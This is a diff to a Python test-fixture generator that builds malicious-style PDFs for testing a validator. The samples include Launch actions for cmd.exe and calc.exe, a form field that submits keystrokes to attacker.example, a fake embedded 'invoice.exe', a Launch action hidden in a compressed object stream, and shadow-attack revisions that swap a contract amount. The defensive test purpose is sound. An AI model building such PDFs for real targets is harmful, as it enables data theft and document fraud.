@@ -14,6 +14,7 @@ import io
 import random
 import sys
 import tempfile
+from collections.abc import Callable
 from pathlib import Path
 
 from fontTools import subset
@@ -49,8 +50,13 @@ def valid_pdf(
     media_box: tuple[float, float, float, float] = A4,
     rotate: int = 0,
     chinese: bool = True,
+    edit: Callable[[PdfFileWriter], None] | None = None,
+    object_streams: bool = False,
 ) -> bytes:
-    writer = PdfFileWriter(stream_xrefs=False)
+    """A clean one-revision document; `edit` adds to it before it is written (issue 14:
+    the active-content corpus), `object_streams` writes an xref stream so objects can be
+    put into compressed object streams."""
+    writer = PdfFileWriter(stream_xrefs=object_streams)
     helv = generic.DictionaryObject(
         {
             generic.pdf_name("/Type"): generic.pdf_name("/Font"),
@@ -89,6 +95,8 @@ def valid_pdf(
         if rotate:
             page[generic.pdf_name("/Rotate")] = generic.NumberObject(rotate)
         writer.insert_page(page)
+    if edit is not None:
+        edit(writer)
     out = io.BytesIO()
     writer.write(out)
     return out.getvalue()
@@ -111,19 +119,273 @@ def encrypted_pdf() -> bytes:
 
 
 def javascript_pdf() -> bytes:
-    """A valid PDF with a JavaScript /OpenAction added in an incremental update."""
-    writer = IncrementalPdfFileWriter(io.BytesIO(valid_pdf(chinese=False)))
-    action = generic.DictionaryObject(
+    """A valid one-revision PDF with a JavaScript /OpenAction."""
+
+    def edit(writer: PdfFileWriter) -> None:
+        action = _action("/JavaScript", JS=generic.TextStringObject("app.alert('hi');"))
+        writer.root[generic.pdf_name("/OpenAction")] = writer.add_object(action)
+
+    return valid_pdf(chinese=False, edit=edit)
+
+
+# -- issue 14: active content, each case named after the attack it reproduces ---------
+
+
+def _name(value: str) -> generic.NameObject:
+    return generic.pdf_name(value)
+
+
+def _action(kind: str, **entries: generic.PdfObject) -> generic.DictionaryObject:
+    action = generic.DictionaryObject({_name("/Type"): _name("/Action"), _name("/S"): _name(kind)})
+    for key, value in entries.items():
+        action[_name("/" + key)] = value
+    return action
+
+
+def _text(value: str) -> generic.TextStringObject:
+    return generic.TextStringObject(value)
+
+
+def _filespec(name: str) -> generic.DictionaryObject:
+    return generic.DictionaryObject({_name("/Type"): _name("/Filespec"), _name("/F"): _text(name)})
+
+
+def _first_page(writer: PdfFileWriter) -> generic.DictionaryObject:
+    page = writer.root["/Pages"]["/Kids"][0].get_object()
+    assert isinstance(page, generic.DictionaryObject)
+    return page
+
+
+def _annotate(writer: PdfFileWriter, annot: generic.DictionaryObject) -> generic.IndirectObject:
+    annot[_name("/Type")] = _name("/Annot")
+    annot[_name("/Rect")] = generic.ArrayObject(map(generic.NumberObject, (72, 600, 272, 640)))
+    ref = writer.add_object(annot)
+    _first_page(writer)[_name("/Annots")] = generic.ArrayObject([ref])
+    return ref
+
+
+def _open_action(kind: str, **entries: generic.PdfObject) -> Callable[[PdfFileWriter], None]:
+    def edit(writer: PdfFileWriter) -> None:
+        writer.root[_name("/OpenAction")] = writer.add_object(_action(kind, **entries))
+
+    return edit
+
+
+def _link(kind: str, **entries: generic.PdfObject) -> Callable[[PdfFileWriter], None]:
+    def edit(writer: PdfFileWriter) -> None:
+        link = generic.DictionaryObject({_name("/Subtype"): _name("/Link")})
+        link[_name("/A")] = writer.add_object(_action(kind, **entries))
+        _annotate(writer, link)
+
+    return edit
+
+
+def _page_aa(trigger: str, kind: str, **entries: generic.PdfObject) -> Callable[[PdfFileWriter], None]:
+    def edit(writer: PdfFileWriter) -> None:
+        aa = generic.DictionaryObject({_name(trigger): writer.add_object(_action(kind, **entries))})
+        _first_page(writer)[_name("/AA")] = aa
+
+    return edit
+
+
+def _annotation_aa(trigger: str, kind: str, **entries: generic.PdfObject) -> Callable[[PdfFileWriter], None]:
+    def edit(writer: PdfFileWriter) -> None:
+        aa = generic.DictionaryObject({_name(trigger): writer.add_object(_action(kind, **entries))})
+        _annotate(writer, generic.DictionaryObject({_name("/Subtype"): _name("/Link"), _name("/AA"): aa}))
+
+    return edit
+
+
+def _catalog_aa(writer: PdfFileWriter) -> None:
+    action = writer.add_object(_action("/Launch", F=_filespec("cmd.exe")))
+    writer.root[_name("/AA")] = generic.DictionaryObject({_name("/WC"): action})
+
+
+def _next_chain(writer: PdfFileWriter) -> None:
+    launch = writer.add_object(_action("/Launch", F=_filespec("calc.exe")))
+    first = _action("/Named", N=_name("/NextPage"), Next=launch)
+    writer.root[_name("/OpenAction")] = writer.add_object(first)
+
+
+def _richmedia(writer: PdfFileWriter) -> None:
+    _annotate(writer, generic.DictionaryObject({_name("/Subtype"): _name("/RichMedia")}))
+
+
+def _xfa(writer: PdfFileWriter) -> None:
+    xdp = b"<xdp:xdp xmlns:xdp='http://ns.adobe.com/xdp/'/>"
+    xfa = writer.add_object(generic.StreamObject(stream_data=xdp))
+    writer.root[_name("/AcroForm")] = generic.DictionaryObject(
+        {_name("/Fields"): generic.ArrayObject(), _name("/XFA"): xfa}
+    )
+
+
+def _embedded_files(writer: PdfFileWriter) -> None:
+    embedded = writer.add_object(generic.StreamObject(stream_data=b"MZ not really a program"))
+    spec = _filespec("invoice.exe")
+    spec[_name("/EF")] = generic.DictionaryObject({_name("/F"): embedded})
+    tree = generic.DictionaryObject(
+        {_name("/Names"): generic.ArrayObject([_text("invoice.exe"), writer.add_object(spec)])}
+    )
+    names = generic.DictionaryObject({_name("/EmbeddedFiles"): writer.add_object(tree)})
+    writer.root[_name("/Names")] = names
+
+
+def _file_attachment(writer: PdfFileWriter) -> None:
+    embedded = writer.add_object(generic.StreamObject(stream_data=b"MZ not really a program"))
+    spec = _filespec("readme.exe")
+    spec[_name("/EF")] = generic.DictionaryObject({_name("/F"): embedded})
+    _annotate(
+        writer,
+        generic.DictionaryObject({_name("/Subtype"): _name("/FileAttachment"), _name("/FS"): spec}),
+    )
+
+
+def _field_aa(writer: PdfFileWriter) -> None:
+    submit = writer.add_object(_action("/SubmitForm", F=_filespec("https://attacker.example/collect")))
+    field = generic.DictionaryObject(
         {
-            generic.pdf_name("/S"): generic.pdf_name("/JavaScript"),
-            generic.pdf_name("/JS"): generic.TextStringObject("app.alert('hi');"),
+            _name("/FT"): _name("/Tx"),
+            _name("/T"): _text("amount"),
+            _name("/AA"): generic.DictionaryObject({_name("/K"): submit}),
         }
     )
-    writer.root[generic.pdf_name("/OpenAction")] = writer.add_object(action)
-    writer.update_root()
+    writer.root[_name("/AcroForm")] = generic.DictionaryObject(
+        {_name("/Fields"): generic.ArrayObject([writer.add_object(field)])}
+    )
+
+
+def _outline(writer: PdfFileWriter) -> None:
+    outlines = generic.DictionaryObject({_name("/Type"): _name("/Outlines")})
+    outlines_ref = writer.add_object(outlines)
+    item = generic.DictionaryObject(
+        {
+            _name("/Title"): _text("Terms"),
+            _name("/Parent"): outlines_ref,
+            _name("/A"): writer.add_object(_action("/Launch", F=_filespec("calc.exe"))),
+        }
+    )
+    item_ref = writer.add_object(item)
+    outlines[_name("/First")] = item_ref
+    outlines[_name("/Last")] = item_ref
+    writer.root[_name("/Outlines")] = outlines_ref
+
+
+def _in_object_stream(writer: PdfFileWriter) -> None:
+    """The Launch action inside a compressed (Flate) object stream: invisible to a scan of
+    the file's bytes, seen by the structural walk."""
+    stream = writer.prepare_object_stream(compress=True)
+    action = writer.add_object(_action("/Launch", F=_filespec("calc.exe")), obj_stream=stream)
+    writer.root[_name("/OpenAction")] = action
+
+
+def _unreachable(writer: PdfFileWriter) -> None:
+    """A Launch action no walked path leads to: only the byte scan finds it."""
+    writer.add_object(_action("/Launch", F=_filespec("calc.exe")))
+
+
+# name -> (document, what the refusal must name besides the object number)
+def active_content_corpus() -> dict[str, tuple[bytes, str]]:
+    calc, attacker = _filespec("calc.exe"), generic.TextStringObject("https://attacker.example/")
+    to_page_one = generic.ArrayObject([generic.NumberObject(0), _name("/Fit")])
+    cases: dict[str, tuple[Callable[[PdfFileWriter], None], str, bool]] = {
+        "launch-open-action": (_open_action("/Launch", F=calc), "/OpenAction /Launch", False),
+        "launch-catalog-aa": (_catalog_aa, "/AA /WC /Launch", False),
+        "launch-next-chain": (_next_chain, "/OpenAction /Next /Launch", False),
+        "launch-outline": (_outline, "/Outlines /A /Launch", False),
+        "launch-in-object-stream": (_in_object_stream, "/OpenAction /Launch", True),
+        "launch-unreachable-object": (_unreachable, ": /Launch", False),
+        "submitform-link": (_link("/SubmitForm", F=_filespec("https://x.example/")), "/A /SubmitForm", False),
+        "submitform-field-aa": (_field_aa, "/AcroForm field /AA /K /SubmitForm", False),
+        "importdata-page-aa": (_page_aa("/O", "/ImportData", F=_filespec("d")), "/AA /O /ImportData", False),
+        "gotor-link": (_link("/GoToR", F=_filespec("other.pdf"), D=to_page_one), "/Annots /A /GoToR", False),
+        "gotoe-open-action": (_open_action("/GoToE", F=_filespec("other.pdf")), "/OpenAction /GoToE", False),
+        "uri-open-action": (_open_action("/URI", URI=attacker), "/OpenAction /URI", False),
+        "uri-annotation-aa": (_annotation_aa("/E", "/URI", URI=attacker), "/Annots /AA /E /URI", False),
+        "richmedia-annotation": (_richmedia, "/Annots /RichMedia", False),
+        "xfa-form": (_xfa, "/AcroForm /XFA", False),
+        "embedded-files-name-tree": (_embedded_files, "/Names /EmbeddedFiles", False),
+        "file-attachment-annotation": (_file_attachment, "/Annots /FileAttachment", False),
+    }
+    return {
+        name: (valid_pdf(chinese=False, edit=edit, object_streams=objstm), named)
+        for name, (edit, named, objstm) in cases.items()
+    }
+
+
+def uri_link_pdf() -> bytes:
+    """An ordinary hyperlink (a /URI action the reader clicks): not active content."""
+    return valid_pdf(chinese=False, edit=_link("/URI", URI=generic.TextStringObject("https://example.com/")))
+
+
+# -- issue 14: the shadow-attack family (Mainka et al., 2021), as unsigned updates -------
+
+
+def _incremental(base: bytes, change: Callable[[IncrementalPdfFileWriter], None]) -> bytes:
+    writer = IncrementalPdfFileWriter(io.BytesIO(base))
+    change(writer)
     out = io.BytesIO()
     writer.write(out)
+    assert out.getvalue().startswith(base)  # an incremental update: the first revision stays
     return out.getvalue()
+
+
+def _page_of(writer: IncrementalPdfFileWriter) -> tuple[generic.DictionaryObject, generic.Reference]:
+    page_ref = writer.root["/Pages"]["/Kids"].raw_get(0)
+    page = page_ref.get_object()
+    return page, page_ref.reference
+
+
+def shadow_hide_pdf() -> bytes:
+    """Hide: a later revision lays a white box over the text the first one shows."""
+
+    def change(writer: IncrementalPdfFileWriter) -> None:
+        page, page_ref = _page_of(writer)
+        cover = writer.add_object(generic.StreamObject(stream_data=b"q 1 g 60 740 400 60 re f Q\n"))
+        contents = page.raw_get("/Contents")
+        page[_name("/Contents")] = generic.ArrayObject([contents, cover])
+        writer.mark_update(page_ref)
+
+    return _incremental(valid_pdf(chinese=False), change)
+
+
+def shadow_replace_pdf() -> bytes:
+    """Replace: a later revision swaps the page's text for other text."""
+
+    def change(writer: IncrementalPdfFileWriter) -> None:
+        page, page_ref = _page_of(writer)
+        other = b"BT /Helv 14 Tf 72 760 Td (Contract amount: 1,000,000 CNY) Tj ET\n"
+        page[_name("/Contents")] = writer.add_object(generic.StreamObject(stream_data=other))
+        writer.mark_update(page_ref)
+
+    return _incremental(valid_pdf(chinese=False), change)
+
+
+def shadow_hide_and_replace_pdf() -> bytes:
+    """Hide-and-replace: the first revision already carries the other text in an object no
+    page uses; the later revision only points the page at it."""
+
+    hidden_ref: list[generic.IndirectObject] = []
+
+    def plant(writer: PdfFileWriter) -> None:
+        other = b"BT /Helv 14 Tf 72 760 Td (Contract amount: 1,000,000 CNY) Tj ET\n"
+        hidden_ref.append(writer.add_object(generic.StreamObject(stream_data=other)))
+
+    base = valid_pdf(chinese=False, edit=plant)
+
+    def change(writer: IncrementalPdfFileWriter) -> None:
+        page, page_ref = _page_of(writer)
+        page[_name("/Contents")] = generic.IndirectObject(hidden_ref[0].idnum, 0, writer)
+        writer.mark_update(page_ref)
+
+    return _incremental(base, change)
+
+
+def shadow_corpus() -> dict[str, bytes]:
+    return {
+        "shadow-hide": shadow_hide_pdf(),
+        "shadow-replace": shadow_replace_pdf(),
+        "shadow-hide-and-replace": shadow_hide_and_replace_pdf(),
+    }
 
 
 def zero_pages_pdf() -> bytes:
@@ -240,6 +502,11 @@ def main(argv: list[str]) -> int:
     (outdir / "valid-rotated-90.pdf").write_bytes(valid_pdf(rotate=90))
     for name, blob in {**malformed_corpus(), **mutated_pdfs(valid_pdf(chinese=False))}.items():
         (outdir / f"{name}.pdf").write_bytes(blob)
+    for name, (blob, _) in active_content_corpus().items():
+        (outdir / f"{name}.pdf").write_bytes(blob)
+    for name, blob in shadow_corpus().items():
+        (outdir / f"{name}.pdf").write_bytes(blob)
+    (outdir / "uri-link.pdf").write_bytes(uri_link_pdf())
     return 0
 
 
